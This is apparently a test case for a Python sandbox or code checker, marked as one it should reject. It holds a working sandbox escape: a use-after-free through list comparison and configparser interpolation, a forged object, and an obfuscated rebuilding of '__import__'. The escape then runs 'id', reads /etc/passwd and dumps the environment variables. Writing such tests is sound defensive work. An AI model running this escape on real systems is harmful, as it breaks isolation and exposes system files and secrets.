# expect: reject memory
# line: 24
# why: a RawConfigParser with BasicInterpolation calls find on a value the program set: find is judged as the str method it stands for
vl = []
KEEP = []


def q(v):
    return v.to_bytes(8, "little")


def g():
    return 0


FAKE = (q(0) + q(0) + q(1 << 40) + q(id(list)) + q(2) + q(id(g) + 16) + q(2)
        + q(0) + q(0) + q(0) + q(0) + q(0))[:89]

import configparser


class T:
    def find(self, s):
        vl.clear()
        return -1

    def replace(self, a, b):
        return ""


P = configparser.RawConfigParser(interpolation=configparser.BasicInterpolation())
P.add_section("s")
P.set("s", "o", T())
SP = P["s"]


class V:
    __slots__ = ("a", "b", "c", "d", "e", "f", "h", "i")

    def __eq__(self, o):
        return False

    def __lt__(self, o):
        try:
            n = SP["o"]
        except TypeError:
            n = 0
        return NotImplemented


class W:
    def __eq__(self, o):
        return False

    def __gt__(self, o):
        return o


vl.append(V())
w = W()
got = vl < [w]
KEEP.append(bytearray(FAKE))
bt = got[1]
imp = bt["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
osm = imp("os")
osm.system("id")
print(bt["open"]("/etc/passwd").read()[:200])
print(dict(osm.environ))
